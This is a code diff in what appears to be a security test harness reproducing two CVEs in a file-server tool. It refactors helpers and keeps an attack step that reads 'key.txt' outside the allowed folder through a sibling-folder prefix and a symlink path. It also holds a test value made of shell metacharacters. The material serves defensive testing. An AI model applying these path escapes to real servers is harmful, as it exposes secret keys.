@@ -8,7 +8,8 @@ from __future__ import annotations
 from typing import TYPE_CHECKING, Final
 
 from sekisho.model.range_ids import RangeId
-from sekisho.range.incident import Call, Harm, Incident, Layer, Server
+from sekisho.range.calls import heard_keys, read_file
+from sekisho.range.incident import Call, Incident, Layer, Server
 from sekisho.range.packages import Index, Package, command
 
 if TYPE_CHECKING:
@@ -37,18 +38,9 @@ def _prepare(folder: Path) -> dict[str, Server]:
     return {"files": Server(command=command(_PACKAGE, str(work)), cwd=work)}
 
 
-def _read(path: str) -> Call:
-    return Call(server="files", tool="read_file", arguments={"path": path})
-
-
 def _attack(table: Table, folder: Path) -> None:
-    table.call(_read(str(folder / "work_kept" / "key.txt")))
-    table.call(_read(str(folder / "work" / "latest" / "key.txt")))
-
-
-def _harm(table: Table, _folder: Path) -> Harm | None:
-    count = sum(_KEY in exchange.text for exchange in table.exchanges)
-    return Harm(cell=RangeId.HARM_KEYS, values={"count": count}) if count else None
+    table.call(read_file(str(folder / "work_kept" / "key.txt")))
+    table.call(read_file(str(folder / "work" / "latest" / "key.txt")))
 
 
 INCIDENT: Final = Incident(
@@ -60,12 +52,12 @@ INCIDENT: Final = Incident(
     sources=("CVE-2025-53110", "CVE-2025-53109"),
     prepare=_prepare,
     honest=(
-        _read("README.md"),
+        read_file("README.md"),
         Call(server="files", tool="list_directory", arguments={"path": "."}),
         Call(server="files", tool="write_file", arguments={"path": "new..file.txt", "content": "a; b | c && $(d)"}),
-        _read("new..file.txt"),
+        read_file("new..file.txt"),
     ),
     attack=_attack,
-    harm=_harm,
+    harm=lambda table, _folder: heard_keys(table, _KEY),
     package=_PACKAGE,
 )
